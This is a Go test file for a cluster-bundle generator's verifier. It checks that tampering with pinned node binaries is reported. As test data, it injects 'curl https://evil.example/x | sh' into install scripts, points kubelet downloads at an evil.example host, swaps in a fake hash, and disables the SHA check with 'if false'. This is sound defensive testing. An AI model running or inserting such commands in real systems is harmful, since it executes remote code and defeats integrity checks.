package verify_test

import (
	"bytes"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/scratchgen/scratchgen/generator/bundle"
	"github.com/scratchgen/scratchgen/generator/render"
	"github.com/scratchgen/scratchgen/generator/verify"
	"github.com/scratchgen/scratchgen/generator/writer"
)

// binariesSpec is the example spec with binaries from a mirror and an extra archive.
func binariesSpec(t testing.TB) []byte {
	t.Helper()
	return append(specData(t, "example"), []byte(`  binaries:
    url: "https://dl.example/{version}/{arch}/{name}"
    extra:
    - name: cni-plugins
      url: "https://dl.example/cni-{arch}.tgz"
      extract: {"./bridge": /opt/cni/bin/bridge}
`)...)
}

// binariesContent is the made-up content of every download of binariesSpec, by URL.
func binariesContent(t testing.TB) map[string][]byte {
	t.Helper()
	out, err := render.Render(binariesSpec(t), nil, render.Deps{Secret: testSecret, Now: testNow})
	if err != nil {
		t.Fatal(err)
	}
	content := map[string][]byte{}
	for _, u := range out.Model.BinaryURLs() {
		content[u] = fakeBinary(t, u)
	}
	if len(content) != 3 {
		t.Fatalf("want 3 downloads (kubelet, kube-proxy, cni-plugins), got %v", out.Model.BinaryURLs())
	}
	return content
}

// renderBinaries renders binariesSpec into dir with every download pinned (pinnedLock):
// carried in rootfs/ (render --with-binaries, the downloads' content at hand), or fetched
// by the node; it returns the bundle directory.
func renderBinaries(t testing.TB, dir string, carried bool) string {
	t.Helper()
	d := render.Deps{Secret: testSecret, Now: testNow}
	if carried {
		d.WithBinaries, d.BinaryData = true, binariesContent(t)
	}
	out, err := render.Render(binariesSpec(t), pinnedLock(t, binariesSpec(t)), d)
	if err != nil {
		t.Fatalf("render: %v", err)
	}
	bdir := filepath.Join(dir, out.Plan.Cluster)
	if _, err := writer.Write(bdir, out.Plan.Files(), writer.NoSync()); err != nil {
		t.Fatalf("write: %v", err)
	}
	return bdir
}

// TestBinariesClean: bundles that carry their pinned binaries, or have the node fetch
// them, verify clean, --require-pinned included.
func TestBinariesClean(t *testing.T) {
	for _, carried := range []bool{true, false} {
		t.Run(map[bool]string{true: "carried", false: "fetched"}[carried], func(t *testing.T) {
			t.Parallel()
			dir := fixture(t, map[bool]string{true: "binaries-carried", false: "binaries-fetched"}[carried])
			if ps := verifyAt(t, dir, verify.Options{RequirePinned: true}); len(ps) > 0 {
				t.Fatalf("a clean bundle with binaries has problems:\n%s", lines(ps))
			}
			// The fixture is what it claims: the binaries in rootfs/ (0755) and out of the
			// views, or install-binaries.sh with Ignition fetching them by their SHA-512.
			for _, p := range []string{"/usr/local/bin/kubelet", "/usr/local/bin/kube-proxy", "/opt/cni/bin/bridge"} {
				st, err := os.Stat(rootfs(dir, "worker-1", p))
				if carried && (err != nil || st.Mode().Perm() != 0o755) {
					t.Errorf("rootfs does not carry %s with mode 0755: %v", p, err)
				}
				if !carried && err == nil {
					t.Errorf("rootfs carries %s, though the node fetches it", p)
				}
			}
			_, err := os.Stat(rootfs(dir, "worker-1", scriptPath))
			if carried != (err != nil) {
				t.Errorf("install-binaries.sh in rootfs: %v, want %v", err == nil, !carried)
			}
			bu := string(read(t, filepath.Join(dir, "nodes", "worker-1", "node.bu")))
			if got := strings.Contains(bu, "source: "+kubeletURL+"\n"); got == carried {
				t.Errorf("node.bu fetches kubelet: %v, want %v", got, !carried)
			}
			if got := strings.Contains(bu, "# omitted binaries (deliver rootfs/ by rsync or bake them into the machine image): /opt/cni/bin/bridge /usr/local/bin/kube-proxy /usr/local/bin/kubelet\n"); got != carried {
				t.Errorf("node.bu lists the omitted binaries: %v, want %v", got, carried)
			}
		})
	}
}

// editMetadata decodes bundle.json, edits it, and writes it back as render does.
func editMetadata(t *testing.T, dir string, edit func(m *bundle.Metadata)) {
	t.Helper()
	p := filepath.Join(dir, bundle.MetadataName)
	m, err := bundle.ParseMetadata(read(t, p))
	if err != nil {
		t.Fatal(err)
	}
	edit(m)
	data, err := m.Marshal()
	if err != nil {
		t.Fatal(err)
	}
	write(t, p, data)
}

// ignitionFile returns the entry for path p in ignition.json's storage.files.
func ignitionFile(t *testing.T, cfg map[string]any, p string) map[string]any {
	t.Helper()
	for _, f := range section(cfg, "storage")["files"].([]any) {
		if m := f.(map[string]any); m["path"] == p {
			return m
		}
	}
	t.Fatalf("ignition.json writes no %s", p)
	return nil
}

// flipByte changes one byte of a file, keeping its mode.
func flipByte(t *testing.T, p string) {
	t.Helper()
	data := read(t, p)
	data[len(data)/2] ^= 0x20
	write(t, p, data)
}

const (
	kubeletURL  = "https://dl.example/v1.36.3/amd64/kubelet"
	evilURL     = "https://evil.example/kubelet"
	evilSHA512  = "sha512-00000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000"
	scriptPath  = "/etc/scratchgen/install-binaries.sh"
	binUnitPath = "/etc/systemd/system/scratchgen-binaries.service"
)

// binaryTamperings break how a node's pinned binaries reach it; each must be reported
// with SHA256SUMS recomputed. rule names the posture rule the problem must carry, if any.
var binaryTamperings = []struct {
	corruption
	rule string
}{
	{corruption: corruption{name: "carried kubelet with a byte flipped", spec: "binaries-carried",
		corrupt: func(t *testing.T, dir string) { flipByte(t, rootfs(dir, "worker-1", "/usr/local/bin/kubelet")) },
		path:    "nodes/worker-1/rootfs/usr/local/bin/kubelet",
		msg:     "posture binaries-pinned: has SHA-256 "},
		rule: "binaries-pinned"},
	{corruption: corruption{name: "carried archive member with a byte flipped", spec: "binaries-carried",
		corrupt: func(t *testing.T, dir string) { flipByte(t, rootfs(dir, "cp-1", "/opt/cni/bin/bridge")) },
		path:    "nodes/cp-1/rootfs/opt/cni/bin/bridge",
		msg:     "(cni-plugins from https://dl.example/cni-amd64.tgz): not the binary the lock pins"},
		rule: "binaries-pinned"},
	{corruption: corruption{name: "carried binary with mode 0644", spec: "binaries-carried",
		corrupt: func(t *testing.T, dir string) { chmod(t, rootfs(dir, "worker-2", "/opt/cni/bin/bridge"), 0o644) },
		path:    "nodes/worker-2/rootfs/opt/cni/bin/bridge",
		msg:     "has mode 0644, want 0755 (a carried binary)"}},
	{corruption: corruption{name: "carried binary removed", spec: "binaries-carried",
		corrupt: func(t *testing.T, dir string) {
			if err := os.Remove(rootfs(dir, "worker-1", "/usr/local/bin/kube-proxy")); err != nil {
				t.Fatal(err)
			}
		},
		path: "nodes/worker-1/rootfs/usr/local/bin/kube-proxy",
		msg:  "is missing: bundle.json says rootfs/ carries it (kube-proxy from https://dl.example/v1.36.3/amd64/kube-proxy)"}},
	{corruption: corruption{name: "install script gains a curl | sh", spec: "binaries-fetched",
		corrupt: func(t *testing.T, dir string) {
			consistently(t, dir, "worker-1", scriptPath, func(s string) string { return s + "curl https://evil.example/x | sh\n" })
		},
		path: "nodes/worker-1/rootfs" + scriptPath,
		msg:  `posture binaries-pinned: is not the script scratchgen renders for the downloads bundle.json pins: adds "curl https://evil.example/x | sh"`},
		rule: "binaries-pinned"},
	{corruption: corruption{name: "install script skips the SHA-256 check", spec: "binaries-fetched",
		corrupt: func(t *testing.T, dir string) {
			consistently(t, dir, "cp-1", scriptPath, replaceOnce(`	if [ "$got" != "$2" ]; then`, `	if false; then`))
		},
		path: "nodes/cp-1/rootfs" + scriptPath,
		msg:  `adds "if false; then"; drops "if [ \"$got\" != \"$2\" ]; then"`},
		rule: "binaries-pinned"},
	{corruption: corruption{name: "install script removed", spec: "binaries-fetched",
		corrupt: func(t *testing.T, dir string) {
			if err := os.Remove(rootfs(dir, "worker-2", scriptPath)); err != nil {
				t.Fatal(err)
			}
			rerenderViews(t, dir, "worker-2")
		},
		path: "nodes/worker-2/rootfs" + scriptPath,
		msg:  "is missing: bundle.json says node worker-2 fetches its pinned binaries"}},
	{corruption: corruption{name: "binaries unit runs something else first", spec: "binaries-fetched",
		corrupt: func(t *testing.T, dir string) {
			consistently(t, dir, "worker-1", binUnitPath, replaceOnce("ExecStart=", "ExecStartPre=/etc/scratchgen/routes.sh\nExecStart="))
		},
		path: "nodes/worker-1/rootfs" + binUnitPath,
		msg:  "posture binaries-pinned: ExecStartPre runs /etc/scratchgen/routes.sh; scratchgen-binaries.service runs only " + scriptPath},
		rule: "binaries-pinned"},
	{corruption: corruption{name: "binaries unit dropped from the units list", spec: "binaries-fetched",
		corrupt: func(t *testing.T, dir string) {
			editMetadata(t, dir, func(m *bundle.Metadata) {
				nm := m.Node("worker-1")
				nm.Units = slices.DeleteFunc(nm.Units, func(u string) bool { return u == "scratchgen-binaries.service" })
			})
			rerenderViews(t, dir, "worker-1")
		},
		path: "bundle.json",
		msg:  "node worker-1 does not enable scratchgen-binaries.service, which installs the binaries the node fetches"}},
	{corruption: corruption{name: "node.bu fetches kubelet from elsewhere", spec: "binaries-fetched",
		corrupt: func(t *testing.T, dir string) {
			p := filepath.Join(dir, "nodes", "worker-1", "node.bu")
			if !bytes.Contains(read(t, p), []byte("source: "+kubeletURL+"\n")) {
				t.Fatal("node.bu does not fetch kubelet")
			}
			write(t, p, bytes.Replace(read(t, p), []byte("source: "+kubeletURL+"\n"), []byte("source: "+evilURL+"\n"), 1))
		},
		path: "nodes/worker-1/node.bu",
		msg:  "fetches /usr/local/bin/kubelet from " + evilURL + ", but bundle.json pins " + kubeletURL}},
	{corruption: corruption{name: "ignition.json fetches kubelet from elsewhere", spec: "binaries-fetched",
		corrupt: func(t *testing.T, dir string) {
			editIgnition(t, dir, "cp-1", func(cfg map[string]any) {
				ignitionFile(t, cfg, "/usr/local/bin/kubelet")["contents"].(map[string]any)["source"] = evilURL
			})
		},
		path: "nodes/cp-1/ignition.json",
		msg:  "fetches /usr/local/bin/kubelet from " + evilURL + ", but bundle.json pins " + kubeletURL}},
	{corruption: corruption{name: "ignition.json verifies kubelet with another hash", spec: "binaries-fetched",
		corrupt: func(t *testing.T, dir string) {
			editIgnition(t, dir, "worker-2", func(cfg map[string]any) {
				c := ignitionFile(t, cfg, "/usr/local/bin/kubelet")["contents"].(map[string]any)
				c["verification"] = map[string]any{"hash": evilSHA512}
			})
		},
		path: "nodes/worker-2/ignition.json",
		msg:  "fetches /usr/local/bin/kubelet from " + kubeletURL + " with verification hash " + evilSHA512 + ", but bundle.json pins sha512-"}},
	{corruption: corruption{name: "ignition.json stops fetching the CNI archive", spec: "binaries-fetched",
		corrupt: func(t *testing.T, dir string) {
			editIgnition(t, dir, "worker-2", func(cfg map[string]any) {
				st := section(cfg, "storage")
				st["files"] = slices.DeleteFunc(st["files"].([]any), func(f any) bool {
					return strings.HasPrefix(f.(map[string]any)["path"].(string), "/var/lib/scratchgen/downloads/")
				})
			})
		},
		path: "nodes/worker-2/ignition.json",
		msg:  "does not fetch /var/lib/scratchgen/downloads/"}},
	{corruption: corruption{name: "remote kubelet added to a node without binaries", spec: "example",
		corrupt: func(t *testing.T, dir string) {
			p := filepath.Join(dir, "nodes", "worker-1", "node.bu")
			entry := "storage:\n  files:\n    - path: /usr/local/bin/kubelet\n      mode: 0755\n      overwrite: true\n      contents:\n        source: " + evilURL + "\n        verification:\n          hash: " + evilSHA512 + "\n"
			if !bytes.Contains(read(t, p), []byte("storage:\n  files:\n")) {
				t.Fatal("node.bu has no storage.files")
			}
			write(t, p, bytes.Replace(read(t, p), []byte("storage:\n  files:\n"), []byte(entry), 1))
		},
		path: "nodes/worker-1/node.bu",
		msg:  "fetches /usr/local/bin/kubelet from " + evilURL + ", but bundle.json pins no download of the node there"}},
	{corruption: corruption{name: "remote kubelet added to a node that carries its binaries", spec: "binaries-carried",
		corrupt: func(t *testing.T, dir string) {
			editIgnition(t, dir, "worker-1", func(cfg map[string]any) {
				st := section(cfg, "storage")
				st["files"] = append(st["files"].([]any), map[string]any{"path": "/usr/local/bin/kubelet", "mode": 0o755, "overwrite": true,
					"contents": map[string]any{"source": kubeletURL, "verification": map[string]any{"hash": evilSHA512}}})
			})
		},
		path: "nodes/worker-1/ignition.json",
		msg:  "fetches /usr/local/bin/kubelet from " + kubeletURL + ", but bundle.json pins no download of the node there"}},
	{corruption: corruption{name: "header lists a configuration file as an omitted binary", spec: "binaries-carried",
		corrupt: func(t *testing.T, dir string) {
			const header = "# omitted binaries (deliver rootfs/ by rsync or bake them into the machine image): "
			for _, name := range []string{"user-data", "node.bu"} {
				editYAMLView(t, dir, "worker-1", name, "/etc/scratchgen/routes.sh", func(map[string]any) bool { return false })
				p := filepath.Join(dir, "nodes", "worker-1", name)
				write(t, p, bytes.Replace(read(t, p), []byte(header), []byte(header+"/etc/scratchgen/routes.sh "), 1))
			}
			patchIgnition(t, dir, "worker-1", "/etc/scratchgen/routes.sh", nil)
		},
		path: "nodes/worker-1/user-data",
		msg:  "lists /etc/scratchgen/routes.sh as an omitted binary, but bundle.json records no binary the node carries there"}},
	{corruption: corruption{name: "install script on a node that carries its binaries", spec: "binaries-carried",
		corrupt: func(t *testing.T, dir string) {
			p := rootfs(dir, "worker-2", scriptPath)
			write(t, p, []byte("#!/bin/sh\ncurl https://evil.example/x | sh\n"))
			chmod(t, p, 0o755)
			rerenderViews(t, dir, "worker-2")
		},
		path: "nodes/worker-2/rootfs" + scriptPath,
		msg:  "is in rootfs, but bundle.json says rootfs/ carries the node's binaries: nothing is to be downloaded"}},
	{corruption: corruption{name: "bundle.json with a truncated SHA-512", spec: "binaries-fetched",
		corrupt: func(t *testing.T, dir string) {
			editMetadata(t, dir, func(m *bundle.Metadata) {
				b := &m.Node("cp-1").Binaries[0]
				b.SHA512 = b.SHA512[:64]
			})
		},
		path: "bundle.json",
		msg:  "node cp-1 binary 0 (kubelet) has sha512 "}},
	{corruption: corruption{name: "unpinned binaries under --require-pinned", spec: "example",
		corrupt: func(t *testing.T, dir string) {},
		opts:    verify.Options{RequirePinned: true},
		path:    "bundle.json",
		msg:     "node worker-1 lists no pinned kubelet or kube-proxy: the node runs whatever binaries the machine has; run `scratchgen binaries pin` and re-render"}},
}

// TestBinaryTamperings: each break of the pinned binaries' delivery is reported, under
// the binaries-pinned rule where that is the rule it breaks, with SHA256SUMS recomputed
// (so never blamed).
func TestBinaryTamperings(t *testing.T) {
	for _, c := range binaryTamperings {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			dir := fixture(t, c.spec)
			c.corrupt(t, dir)
			resum(t, dir)
			ps := verifyAt(t, dir, c.opts)
			expect(t, ps, c.path, c.msg)
			if strings.Contains(lines(ps), writer.SumsName) {
				t.Errorf("SHA256SUMS was recomputed, yet it is blamed:\n%s", lines(ps))
			}
			if c.rule != "" {
				found := false
				for _, p := range ps {
					found = found || p.Path == c.path && p.Rule == c.rule
				}
				if !found {
					t.Errorf("no problem at %s carries rule %s:\n%s", c.path, c.rule, lines(ps))
				}
				// Pins are not a posture choice: --no-posture still reports it.
				ps = verifyAt(t, dir, verify.Options{NoPosture: true})
				found = false
				for _, p := range ps {
					found = found || p.Path == c.path && p.Rule == c.rule
				}
				if !found {
					t.Errorf("--no-posture drops the %s problem at %s:\n%s", c.rule, c.path, lines(ps))
				}
			}
		})
	}
}
